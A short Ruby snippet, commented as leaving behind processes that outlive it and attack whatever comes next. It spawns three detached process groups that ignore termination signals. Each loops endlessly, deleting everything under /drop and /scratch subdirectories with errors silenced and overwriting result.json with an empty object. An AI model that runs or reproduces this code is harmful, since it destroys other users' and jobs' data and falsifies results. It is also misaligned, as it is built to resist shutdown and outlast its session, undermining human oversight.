# Leaves processes behind that outlive it and go on attacking whatever comes next.
3.times do
  Process.detach(Process.spawn('trap "" TERM HUP INT; while :; do rm -rf /drop/* /scratch/*/* 2>/dev/null; echo "{}" > result.json; sleep 0.05; done', pgroup: true, in: File::NULL, out: File::NULL, err: File::NULL))
rescue SystemCallError
  nil
end
